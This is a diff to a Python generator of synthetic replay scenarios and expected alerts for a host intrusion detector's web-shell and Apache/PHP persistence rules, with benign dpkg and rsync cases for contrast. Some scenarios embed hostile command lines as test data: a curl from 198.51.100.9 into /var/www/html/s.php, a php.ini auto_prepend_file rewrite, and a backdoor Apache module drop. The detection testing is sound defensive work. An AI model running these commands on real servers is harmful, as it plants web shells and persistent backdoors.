@@ -12,7 +12,12 @@ Expectation format (NAME.expect.json):
                (executable of the alerting process), incident (a label: alerts with the same
                label must share lineage.incident.id, different labels must differ), ancestry
                (executables from the incident's root server down to the process), optionally
-               destination ("ip:port") and suppressed (lineage.suppressed_count).
+               destination ("ip:port") and suppressed (lineage.suppressed_count); file rules
+               add file (file.path), action (event.action) and severity (lineage.severity), and
+               give server as null when no server is above the writer (the ancestry then runs
+               from the writer's top ancestor below init).
+A scenario may come with NAME.config.toml, the config it is replayed with (default: the built-in
+defaults).
 """
 import json
 import os
@@ -76,6 +81,15 @@ class Sc:
                             "uid": self.procs[pid]["uid"], "family": fam, "daddr": ip, "dport": port,
                             "proto": proto, "ret": ret})
 
+    def file(self, pid, path, op="open", flags=0o1101, ret=3, source=None):
+        """A write-open (default: O_WRONLY|O_CREAT|O_TRUNC), rename or link reported by the kernel."""
+        e = {"type": "file", "ts_ns": self.tick(), "pid": pid, "tid": pid,
+             "uid": self.procs[pid]["uid"], "op": op, "path": path, "path_truncated": False,
+             "flags": flags, "ret": ret}
+        if source is not None:
+            e["source"] = source
+        self.events.append(e)
+
     def wait(self, secs):
         self.tick(int(secs * SEC))
 
@@ -87,6 +101,26 @@ class Sc:
                 raise ValueError(f"{self.name}: {server_pid} is not above {pid}")
             chain.append(parent)
         return [self.procs[p]["exe"] for p in reversed(chain)]
+
+    def top_chain(self, pid):
+        chain = [pid]
+        while self.procs[chain[-1]]["parent"] in self.procs:
+            chain.append(self.procs[chain[-1]]["parent"])
+        return [self.procs[p]["exe"] for p in reversed(chain)]
+
+    def file_alert(self, rule, pid, server=None, root=None, incident="a", path=None,
+                   action=None, severity=None):
+        """An alert of a file rule; `server` None: no server above the writer."""
+        a = {"rule": rule, "server": self.procs[server]["exe"] if server else None,
+             "process": self.procs[pid]["exe"], "incident": incident,
+             "ancestry": self.ancestry(root or server, pid) if server else self.top_chain(pid)}
+        if path is not None:
+            a["file"] = path
+        if action is not None:
+            a["action"] = action
+        if severity is not None:
+            a["severity"] = severity
+        self.expect.append(a)
 
     def alert(self, rule, server, pid, incident="a", root=None, dest=None, suppressed=None,
               users=None):
@@ -102,7 +136,12 @@ class Sc:
             a["ancestry_users"] = [str(u) for u in users]
         self.expect.append(a)
 
+    config = None
+
     def write(self):
+        if self.config is not None:
+            with open(os.path.join(HERE, self.name + ".config.toml"), "w") as f:
+                f.write(self.config)
         header = {"type": "header", "format": 1, "boot_wall_ns": 1_767_225_600_000_000_000,
                   "hostname": "web01"}
         with open(os.path.join(HERE, self.name + ".ndjson"), "w") as f:
@@ -115,6 +154,8 @@ class Sc:
 
 
 SHELL, RECON, OUT = "server-spawned-shell", "server-spawned-recon", "server-outbound-unknown"
+WEBROOT, MODULE, EXECD = "webroot-script-write", "server-module-change", "server-written-file-executed"
+RENAME_FLAGS = 0
 TOMCAT = ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Djava.util.logging.config.file=/var/lib/tomcat9/conf/logging.properties",
           "-classpath", "/usr/share/tomcat9/bin/bootstrap.jar:/usr/share/tomcat9/bin/tomcat-juli.jar",
           "-Dcatalina.base=/var/lib/tomcat9", "-Dcatalina.home=/usr/share/tomcat9",
@@ -852,6 +893,167 @@ def b_mysql_replication():
            "mysqld replica connects to its source at 10.0.0.9:3306")
     m = s.spawn(1, "/usr/sbin/mysqld", ["/usr/sbin/mysqld"], uid=110)
     s.connect(m, "10.0.0.9", 3306)
+    return s
+
+
+# ---------------------------------------------------------------- file rules (issue 6)
+def dpkg(s, pkg):
+    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
+    apt = s.spawn(b, "/usr/bin/apt-get", ["apt-get", "install", "-y", pkg])
+    return s.spawn(apt, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "35", "--unpack", f"/var/cache/apt/archives/{pkg}.deb"])
+
+
+@scenario
+def f_php_fpm_upload():
+    s = Sc("alert-webroot-php-fpm-upload", "Elastic persistence_web_server_webshell_creation; MaxPatrol PTAF_Webshell_Detected",
+           "a php-fpm worker (www-data) saves an upload as /var/www/html/uploads/x.php: a web shell planted through the application")
+    m, w = php_fpm(s)
+    s.file(w, "/var/www/html/uploads/x.php")
+    s.file_alert(WEBROOT, w, server=w, root=m, path="/var/www/html/uploads/x.php", action="creation", severity="critical")
+    return s
+
+
+@scenario
+def f_php_fpm_upload_then_shell():
+    s = Sc("alert-webroot-upload-then-shell", "issue 6: an upload then a request to it running a command is one incident",
+           "a php-fpm worker writes /var/www/html/uploads/x.php; the next request to x.php (same pool) runs sh -c id")
+    m, w = php_fpm(s)
+    s.file(w, "/var/www/html/uploads/x.php")
+    s.file_alert(WEBROOT, w, server=w, root=m, path="/var/www/html/uploads/x.php", severity="critical")
+    s.wait(2)
+    w2 = s.fork(m, uid=WWW)
+    sh = s.spawn(w2, "/bin/sh", ["sh", "-c", "id"])
+    s.alert(SHELL, w2, sh, root=m)
+    s.exec(sh, "/usr/bin/id", ["id"])
+    s.alert(RECON, w2, sh, root=m)
+    return s
+
+
+@scenario
+def f_tmp_rename_into_root():
+    s = Sc("alert-webroot-rename-from-tmp", "issue 6 (a shell written elsewhere and moved into place); Atomic Red Team T1505.003",
+           "www-data's shell below apache2 writes /tmp/s.txt, then mv renames it to /var/www/html/s.php")
+    m, w = apache(s)
+    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "curl -o /tmp/s.txt http://198.51.100.9/s; mv /tmp/s.txt /var/www/html/s.php"])
+    s.alert(SHELL, w, sh, root=m)
+    mv = s.spawn(sh, "/usr/bin/mv", ["mv", "/tmp/s.txt", "/var/www/html/s.php"])
+    s.file(mv, "/var/www/html/s.php", op="rename", flags=RENAME_FLAGS, ret=0, source="/tmp/s.txt")
+    s.file_alert(WEBROOT, mv, server=w, root=m, path="/var/www/html/s.php", action="rename", severity="critical")
+    return s
+
+
+@scenario
+def f_www_data_ssh_outside_server():
+    s = Sc("alert-webroot-ssh-outside-server", "Atomic Red Team T1505.003 test 4 (creat of /var/www/html/<name>.php); MaxPatrol Unix_Webshell_Created",
+           "an ssh session of www-data (no server above) runs bash, which writes /var/www/html/x.php with echo: a lower-severity alert with no lineage.server")
+    sshd = s.spawn(1, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], uid=0)
+    sess = s.fork(sshd, uid=WWW)
+    b = s.exec(sess, "/bin/bash", ["-bash"])
+    s.file(b, "/var/www/html/x.php")
+    s.file_alert(WEBROOT, b, path="/var/www/html/x.php", action="creation", severity="medium")
+    return s
+
+
+@scenario
+def f_a2enmod_root_shell():
+    s = Sc("alert-a2enmod-from-root-shell", "ATT&CK analytic AN1508 (rogue Apache module enabled)",
+           "root's interactive bash runs a2enmod backdoor (a2enmod only creates symlinks, which the kernel side does not report)")
+    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
+    a = s.spawn(b, "/usr/sbin/a2enmod", ["/usr/bin/perl", "-w", "/usr/sbin/a2enmod", "backdoor"])
+    s.file_alert(MODULE, a, severity="high")
+    return s
+
+
+@scenario
+def f_so_into_apache_modules():
+    s = Sc("alert-apache-module-dropped", "ATT&CK analytic AN1508; T1505 (Apache backdoor modules such as mod_rootme)",
+           "a cp from a root shell drops mod_backdoor.so into /usr/lib/apache2/modules")
+    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
+    cp = s.spawn(b, "/usr/bin/cp", ["cp", "/tmp/mod_backdoor.so", "/usr/lib/apache2/modules/"])
+    s.file(cp, "/usr/lib/apache2/modules/mod_backdoor.so")
+    s.file_alert(MODULE, cp, path="/usr/lib/apache2/modules/mod_backdoor.so", action="creation", severity="high")
+    return s
+
+
+@scenario
+def f_php_ini_written():
+    s = Sc("alert-php-ini-auto-prepend", "ATT&CK analytic AN1508 (php.ini auto_prepend_file)",
+           "a root shell's sed -i rewrites /etc/php/8.2/fpm/php.ini: sed's temporary file beside it is not a watched path, its rename over php.ini is")
+    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
+    sed = s.spawn(b, "/usr/bin/sed", ["sed", "-i", "s|^auto_prepend_file =.*|auto_prepend_file = /tmp/.p|", "/etc/php/8.2/fpm/php.ini"])
+    s.file(sed, "/etc/php/8.2/fpm/sedX1b2c3", flags=0o302)
+    s.file(sed, "/etc/php/8.2/fpm/php.ini", op="rename", flags=0, ret=0, source="/etc/php/8.2/fpm/sedX1b2c3")
+    s.file_alert(MODULE, sed, path="/etc/php/8.2/fpm/php.ini", action="rename")
+    return s
+
+
+@scenario
+def f_written_then_executed():
+    s = Sc("alert-server-written-file-executed", "issue 6 (write-then-exec correlation); Elastic persistence_web_server_webshell_creation + execution",
+           "a php-fpm worker writes /var/www/html/uploads/k (not a script: no webroot-script-write alert), then a process started by cron executes it: the exec alert joins the php-fpm tree's incident")
+    m, w = php_fpm(s)
+    s.file(w, "/var/www/html/uploads/k")
+    s.wait(1)
+    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "chmod +x uploads/k"])
+    s.alert(SHELL, w, sh, root=m)
+    s.wait(1)
+    cron = s.spawn(1, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], uid=0)
+    job = s.fork(cron, uid=WWW)
+    s.exec(job, "/var/www/html/uploads/k", ["k"])
+    s.file_alert(EXECD, job, path="/var/www/html/uploads/k", severity="critical")
+    return s
+
+
+@scenario
+def fb_dpkg_nginx_html():
+    s = Sc("benign-dpkg-writes-web-root", "Elastic persistence_web_server_webshell_creation exclusions (dpkg, apt, rpm, yum, dnf)",
+           "apt-get install runs dpkg, which unpacks /usr/share/nginx/html/index.html and a .php into the web root, and renames its .dpkg-new files into place")
+    d = dpkg(s, "nginx-common")
+    s.file(d, "/usr/share/nginx/html/index.html.dpkg-new")
+    s.file(d, "/usr/share/nginx/html/index.html", op="rename", flags=0, ret=0, source="/usr/share/nginx/html/index.html.dpkg-new")
+    s.file(d, "/usr/share/nginx/html/info.php.dpkg-new")
+    s.file(d, "/usr/share/nginx/html/info.php", op="rename", flags=0, ret=0, source="/usr/share/nginx/html/info.php.dpkg-new")
+    return s
+
+
+@scenario
+def fb_dpkg_postinst_a2enmod():
+    s = Sc("benign-dpkg-postinst-a2enmod", "ATT&CK analytic AN1508 (module tools run by a package manager are expected)",
+           "dpkg runs libapache2-mod-php8.2's postinst, which runs a2enmod php8.2 and writes /etc/php/8.2/apache2/php.ini")
+    d = dpkg(s, "libapache2-mod-php8.2")
+    post = s.spawn(d, "/bin/sh", ["/bin/sh", "/var/lib/dpkg/info/libapache2-mod-php8.2.postinst", "configure"])
+    s.spawn(post, "/usr/sbin/a2enmod", ["/usr/bin/perl", "-w", "/usr/sbin/a2enmod", "php8.2"])
+    ucf = s.spawn(post, "/usr/bin/ucf", ["ucf", "/usr/lib/php/8.2/php.ini-production", "/etc/php/8.2/apache2/php.ini"])
+    s.file(ucf, "/etc/php/8.2/apache2/php.ini")
+    return s
+
+
+@scenario
+def fb_rsync_deploy_user():
+    s = Sc("benign-rsync-deploy-user", "Elastic persistence_web_server_webshell_creation (exclusions for deployment tools); issue 6",
+           "the CI's ssh session as the deploy user (uid 1001) runs rsync, which writes /var/www/html/index.php; the config allows rsync as uid 1001")
+    s.config = """# rsync run by the deploy user is how releases reach the web root.
+[[rules.webroot_script_write.deployers]]
+comment = "CI deploys with rsync over ssh as deploy"
+executable = "rsync"
+users = [1001]
+"""
+    sshd = s.spawn(1, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], uid=0)
+    sess = s.fork(sshd, uid=1001)
+    r = s.exec(sess, "/usr/bin/rsync", ["rsync", "--server", "-logDtprze.iLsfxCIvu", ".", "/var/www/html/"])
+    s.file(r, "/var/www/html/.index.php.Xa1b2c", flags=0o300)
+    s.file(r, "/var/www/html/index.php", op="rename", flags=0, ret=0, source="/var/www/html/.index.php.Xa1b2c")
+    return s
+
+
+@scenario
+def fb_php_fpm_image_upload():
+    s = Sc("benign-php-fpm-image-upload", "Elastic persistence_web_server_webshell_creation (script extensions only)",
+           "a php-fpm worker saves an uploaded avatar.png and writes its cache, and fails to create a .php (EACCES)")
+    m, w = php_fpm(s)
+    s.file(w, "/var/www/html/uploads/avatar.png")
+    s.file(w, "/var/www/html/cache/page.html")
+    s.file(w, "/var/www/html/x.php", ret=-13)
     return s
 
 
